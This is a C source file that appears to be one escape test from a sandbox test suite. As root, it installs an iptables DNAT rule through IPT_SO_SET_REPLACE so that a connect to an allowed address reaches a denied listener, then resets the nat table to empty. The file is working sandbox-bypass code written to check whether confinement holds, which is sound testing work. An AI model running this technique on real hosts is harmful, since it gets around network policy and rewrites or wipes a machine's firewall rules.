/*
 * Vector 12: a root tree may rewrite the host's own packet filter. An
 * iptables nat rule (IPT_SO_SET_REPLACE, a setsockopt on any inet socket)
 * sends TCP for 127.0.0.77, which the policy allows, to the denied
 * 127.0.0.2:P; then a plain connect to 127.0.0.77:P is judged by the address
 * it names and reaches the denied listener. (Netlink to nftables does the
 * same.) The rule lives on after the session; this program puts the legacy
 * nat table back to empty when it is done.
 * success = the denied listener's banner through 127.0.0.77.
 * expect: ptrace_network|ptrace_process
 */
#include "esc.h"

#include <linux/netfilter.h>
#include <linux/netfilter/nf_nat.h>
#include <linux/netfilter_ipv4/ip_tables.h>

#define VIA "127.0.0.77"
#define STD_SIZE (sizeof(struct ipt_entry) + XT_ALIGN(sizeof(struct xt_standard_target)))
#define ERR_SIZE (sizeof(struct ipt_entry) + XT_ALIGN(sizeof(struct xt_error_target)))
#define DNAT_TG XT_ALIGN(sizeof(struct xt_entry_target) + sizeof(struct nf_nat_ipv4_multi_range_compat))
#define DNAT_SIZE (sizeof(struct ipt_entry) + DNAT_TG)

static size_t put_accept(unsigned char *at)
{
	struct ipt_entry *e = (struct ipt_entry *)at;
	struct xt_standard_target *t = (struct xt_standard_target *)e->elems;

	e->target_offset = sizeof(*e);
	e->next_offset = STD_SIZE;
	t->target.u.user.target_size = XT_ALIGN(sizeof(*t));
	t->verdict = -NF_ACCEPT - 1;
	return STD_SIZE;
}

static size_t put_error(unsigned char *at)
{
	struct ipt_entry *e = (struct ipt_entry *)at;
	struct xt_error_target *t = (struct xt_error_target *)e->elems;

	e->target_offset = sizeof(*e);
	e->next_offset = ERR_SIZE;
	t->target.u.user.target_size = XT_ALIGN(sizeof(*t));
	snprintf(t->target.u.user.name, sizeof(t->target.u.user.name), "ERROR");
	snprintf(t->errorname, sizeof(t->errorname), "ERROR");
	return ERR_SIZE;
}

static size_t put_dnat(unsigned char *at, struct sockaddr_in to)
{
	struct ipt_entry *e = (struct ipt_entry *)at;
	struct xt_entry_target *t = (struct xt_entry_target *)e->elems;
	struct nf_nat_ipv4_multi_range_compat *r = (void *)t->data;

	e->ip.dst.s_addr = inet_addr(VIA);
	e->ip.dmsk.s_addr = 0xffffffff;
	e->ip.proto = IPPROTO_TCP;
	e->target_offset = sizeof(*e);
	e->next_offset = DNAT_SIZE;
	t->u.user.target_size = DNAT_TG;
	snprintf(t->u.user.name, sizeof(t->u.user.name), "DNAT");
	r->rangesize = 1;
	r->range[0].flags = NF_NAT_RANGE_MAP_IPS | NF_NAT_RANGE_PROTO_SPECIFIED;
	r->range[0].min_ip = r->range[0].max_ip = to.sin_addr.s_addr;
	r->range[0].min.tcp.port = r->range[0].max.tcp.port = to.sin_port;
	return DNAT_SIZE;
}

/* The nat table with the DNAT rule in OUTPUT (dnat) or empty. */
static int replace_nat(int s, bool dnat, struct sockaddr_in to)
{
	struct ipt_getinfo info = { .name = "nat" };
	socklen_t len = sizeof(info);
	size_t size = 4 * STD_SIZE + ERR_SIZE + (dnat ? DNAT_SIZE : 0), off = 0;
	struct ipt_replace *r = calloc(1, sizeof(*r) + size);
	unsigned char *at = (unsigned char *)r->entries;
	int ret;

	if (getsockopt(s, IPPROTO_IP, IPT_SO_GET_INFO, &info, &len) < 0)
		return -1;
	snprintf(r->name, sizeof(r->name), "nat");
	r->valid_hooks = info.valid_hooks;
	r->num_entries = 5 + dnat;
	r->size = (unsigned)size;
	r->num_counters = info.num_entries;
	r->counters = calloc(info.num_entries, sizeof(struct xt_counters));
	r->hook_entry[NF_INET_PRE_ROUTING] = r->underflow[NF_INET_PRE_ROUTING] = (unsigned)off;
	off += put_accept(at + off);
	r->hook_entry[NF_INET_LOCAL_IN] = r->underflow[NF_INET_LOCAL_IN] = (unsigned)off;
	off += put_accept(at + off);
	r->hook_entry[NF_INET_LOCAL_OUT] = (unsigned)off;
	if (dnat)
		off += put_dnat(at + off, to);
	r->underflow[NF_INET_LOCAL_OUT] = (unsigned)off;
	off += put_accept(at + off);
	r->hook_entry[NF_INET_POST_ROUTING] = r->underflow[NF_INET_POST_ROUTING] = (unsigned)off;
	off += put_accept(at + off);
	put_error(at + off);
	ret = setsockopt(s, IPPROTO_IP, IPT_SO_SET_REPLACE, r, (socklen_t)(sizeof(*r) + size));
	free(r->counters);
	free(r);
	return ret;
}

int main(void)
{
	struct sockaddr_in deny = esc_deny_sin(), via = deny;
	int s = socket(AF_INET, SOCK_DGRAM, 0), c, ok;

	via.sin_addr.s_addr = inet_addr(VIA);
	if (s < 0)
		esc_broken("socket: %s", strerror(errno));
	if (replace_nat(s, true, deny) < 0) {
		if (errno == ENOPROTOOPT || errno == ENOENT)
			esc_skip("no iptables nat table: %s", strerror(errno));
		esc_blocked("IPT_SO_SET_REPLACE: %s", strerror(errno));
	}
	c = socket(AF_INET, SOCK_STREAM, 0);
	ok = connect(c, (struct sockaddr *)&via, sizeof(via)) == 0 &&
	     esc_recv_contains(c, ESC_BANNER, 2000);
	if (!ok)
		printf("connect %s: %s\n", VIA, strerror(errno));
	close(c);
	if (replace_nat(s, false, deny) < 0)
		printf("could not empty the nat table again: %s\n", strerror(errno));
	if (ok)
		esc_success("a nat rule of our own took a connect to %s to the denied address", VIA);
	esc_blocked("no banner through %s", VIA);
}
